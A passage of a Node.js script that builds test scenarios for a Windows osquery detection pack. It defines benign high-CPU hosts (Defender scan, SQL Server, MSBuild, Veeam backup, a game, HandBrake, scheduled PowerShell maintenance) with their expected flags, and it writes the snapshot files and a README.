        'C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.4585_none_7e1f\\TiWorker.exe',
        'C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack\\TiWorker.exe -Embedding',
        960,
        85,
        3600,
      ),
    ],
    sustained: [{ pid: 5101, vector: 'service', avg: 84, user: 'NT AUTHORITY\\SYSTEM' }],
    catalogSigned: [5100, 5101],
    signatures: { 5100: { signed: 0 }, 5101: { signed: 0 } },
  }),
  expected: { core_lifetime_cpu: [[5101, 'other']], ...quiet },
};
scenarios['benign-defender-scan'] = {
  story: 'Defender full scan: MsMpEng.exe at 60 % for an hour.',
  host: host({
    processes: [
      P(
        5200,
        'MsMpEng.exe',
        'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe',
        '"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.24090.11-0\\MsMpEng.exe"',
        700,
        60,
        3600,
      ),
    ],
    sustained: [{ pid: 5200, vector: 'service', avg: 61, user: 'NT AUTHORITY\\SYSTEM' }],
    signatures: { 5200: { signer: 'CN=Microsoft Windows Publisher', company: 'Microsoft Corporation' } },
  }),
  expected: { core_lifetime_cpu: [[5200, 'service']], ...quiet },
};
scenarios['benign-sql-server'] = {
  story: 'SQL Server under load on a database server, long-lived client connections from the LAN.',
  host: host({
    hostname: 'SQL-PROD-01',
    processes: [
      P(
        5300,
        'sqlservr.exe',
        'C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe',
        '"C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe" -sMSSQLSERVER',
        700,
        55,
        800000,
      ),
    ],
    sustained: [{ pid: 5300, vector: 'service', avg: 57, user: 'NT Service\\MSSQLSERVER' }],
    signatures: { 5300: { signer: 'CN=Microsoft Corporation', company: 'Microsoft Corporation' } },
    connections: [{ pid: 5300, remote: '10.0.4.20', remote_port: 51234, external: 0, pool: 0, persistent: 1 }],
  }),
  expected: { core_lifetime_cpu: [[5300, 'service']], ...quiet },
};
scenarios['benign-ci-build-agent'] = {
  story: 'An Azure DevOps agent compiling on a build host (host group build-agents): MSBuild busy for hours.',
  host: host({
    hostname: 'BUILD-07',
    processes: [
      P(
        5400,
        'Agent.Listener.exe',
        'C:\\agent\\bin\\Agent.Listener.exe',
        'C:\\agent\\bin\\Agent.Listener.exe run --startuptype service',
        700,
        1,
      ),
      P(
        5401,
        'MSBuild.exe',
        'C:\\Program Files\\Microsoft Visual Studio\\2022\\BuildTools\\MSBuild\\Current\\Bin\\amd64\\MSBuild.exe',
        'MSBuild.exe /m /p:Configuration=Release Product.sln',
        5400,
        70,
        5400,
      ),
    ],
    sustained: [{ pid: 5401, vector: 'other', avg: 72, user: 'BUILD-07\\agent' }],
    signatures: { 5400: { signer: 'CN=Microsoft Corporation' }, 5401: { signer: 'CN=Microsoft Corporation' } },
    connections: [{ pid: 5400, remote: '13.107.42.16', remote_port: 443, persistent: 1 }],
  }),
  expected: { core_lifetime_cpu: [], ...quiet },
};
scenarios['benign-backup-in-window'] = {
  story:
    'Veeam agent compressing a backup at 02:30 UTC, inside its 01:00+4h maintenance window, started by a scheduled task.',
  host: host({
    now: Date.UTC(2026, 10, 25, 2, 30, 0) / 1000,
    processes: [
      P(
        5500,
        'VeeamAgent.exe',
        'C:\\Program Files\\Veeam\\Endpoint Backup\\VeeamAgent.exe',
        '"C:\\Program Files\\Veeam\\Endpoint Backup\\VeeamAgent.exe" -job 4',
        900,
        75,
        5400,
      ),
    ],
    sustained: [{ pid: 5500, vector: 'scheduled_task', avg: 76, user: 'NT AUTHORITY\\SYSTEM' }],
    signatures: { 5500: { signer: 'CN=Veeam Software Group GmbH' } },
    connections: [{ pid: 5500, remote: '198.51.100.99', remote_port: 443, persistent: 1 }],
    tasks: [
      {
        name: 'Veeam Endpoint Backup',
        path: '\\Veeam\\',
        action: taskAction(['', '"C:\\Program Files\\Veeam\\Endpoint Backup\\VeeamAgent.exe"', '-job 4']),
      },
    ],
  }),
  expected: { core_lifetime_cpu: [], ...quiet },
};
scenarios['benign-game'] = {
  story: 'A game at 90 % CPU started from Steam by the user.',
  host: host({
    processes: [
      P(
        5600,
        'steam.exe',
        'C:\\Program Files (x86)\\Steam\\steam.exe',
        '"C:\\Program Files (x86)\\Steam\\steam.exe"',
        2000,
        2,
      ),
      P(
        5601,
        'eldenring.exe',
        'D:\\SteamLibrary\\steamapps\\common\\ELDEN RING\\Game\\eldenring.exe',
        '"D:\\SteamLibrary\\steamapps\\common\\ELDEN RING\\Game\\eldenring.exe"',
        5600,
        93,
        5400,
      ),
    ],
    sustained: [{ pid: 5601, vector: 'interactive', avg: 90 }],
    signatures: { 5600: { signer: 'CN=Valve Corp.' }, 5601: { signer: 'CN=FromSoftware, Inc.' } },
    connections: [{ pid: 5601, remote: '155.133.248.38', remote_port: 27015, persistent: 1 }],
  }),
  expected: { core_lifetime_cpu: [[5601, 'other']], ...quiet },
};
scenarios['benign-video-encode'] = {
  story: 'A user encodes a video with HandBrake at 98 % for two hours.',
  host: host({
    processes: [
      P(
        5700,
        'HandBrake.exe',
        'C:\\Program Files\\HandBrake\\HandBrake.exe',
        '"C:\\Program Files\\HandBrake\\HandBrake.exe"',
        2000,
        98,
      ),
    ],
    sustained: [{ pid: 5700, vector: 'interactive', avg: 98 }],
    signatures: { 5700: { signer: 'CN=HandBrake Team' } },
  }),
  expected: { core_lifetime_cpu: [[5700, 'interactive']], ...quiet },
};
scenarios['benign-scheduled-powershell-maintenance'] = {
  story: "IT's weekly maintenance script (scheduled task, PowerShell) at 40 % on Sunday 03:20 UTC, inside its window.",
  host: host({
    now: Date.UTC(2026, 10, 29, 3, 20, 0) / 1000,
    processes: [
      P(
        5800,
        'powershell.exe',
        `${MS}WindowsPowerShell\\v1.0\\powershell.exe`,
        'powershell.exe -NoProfile -ExecutionPolicy Bypass -File \\\\corp.example\\netlogon\\maintenance\\Invoke-DiskMaintenance.ps1',
        900,
        40,
        1200,
      ),
    ],
    sustained: [{ pid: 5800, vector: 'scheduled_task', avg: 41, user: 'NT AUTHORITY\\SYSTEM' }],
    tasks: [
      {
        name: 'Weekly Disk Maintenance',
        path: '\\Corp\\',
        action: taskAction([
          '',
          '%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          '-NoProfile -ExecutionPolicy Bypass -File \\\\corp.example\\netlogon\\maintenance\\Invoke-DiskMaintenance.ps1',
        ]),
      },
    ],
    powershell: [
      {
        script_block_id: '0d8e1f2a-3b4c-4d5e-8f90-a1b2c3d4e5f6',
        script_text: 'Optimize-Volume -DriveLetter C -ReTrim; Get-ChildItem $env:TEMP -Recurse | Remove-Item -Force',
        script_path: '\\\\corp.example\\netlogon\\maintenance\\Invoke-DiskMaintenance.ps1',
      },
    ],
  }),
  // The baseline entry disk-maintenance-script approves it inside its window,
  // in the core-only pack too.
  expected: { core_lifetime_cpu: [], ...quiet },
};

rmSync(out, { recursive: true, force: true });
for (const [name, sc] of Object.entries(scenarios)) {
  const dir = join(out, name);
  mkdirSync(join(dir, 'snapshot'), { recursive: true });
  for (const [table, rows] of Object.entries(sc.host)) {
    // Our tables with no rows are omitted: the runner declares them empty.
    if (rows.length === 0 && table.startsWith('process_') && table !== 'process_open_sockets') continue;
    writeFileSync(join(dir, 'snapshot', `${table}.json`), `${JSON.stringify(strings(rows), null, 1)}\n`);
  }
  const expected = {
    story: sc.story,
    flagged: Object.fromEntries(
      Object.entries(sc.expected).map(([q, rows]) => [
        q,
        rows.map(([key, reasons]) => ({ key: String(key), reasons })),
      ]),
    ),
  };
  writeFileSync(join(dir, 'expected.json'), `${JSON.stringify(expected, null, 2)}\n`);
}
writeFileSync(
  join(out, 'README.md'),
  `# AN1489 scenario corpus

GENERATED by \`node scripts/build-pack-scenarios.mjs\` — edit the scenarios there.

Each folder is one Windows host: \`snapshot/<table>.json\` holds the rows
\`osqueryi --json\` would print (every value a string; docs/snapshots.md),
including the extension's tables as a host running it answers them, and
\`expected.json\` says, by hand, which query flags which row (\`key\`: pid, task
name, consumer name or script block id) with which reason codes. Queries not
listed flag nothing.

\`test/pack/scenarios.test.ts\` runs both packs on every host in the embedded
host and asserts exactly those rows, then moves CPU figures inside their band
and the clock on by one interval and asserts identical rows (differential
stability). \`test/pack/replay.test.ts\` drives the same kind of host through
the sampler's history store from recorded process listings instead.

${Object.entries(scenarios)
  .map(([name, sc]) => `- **${name}** — ${sc.story}`)
  .join('\n')}
`,
);
console.log(`${Object.keys(scenarios).length} scenarios written to ${out}`);
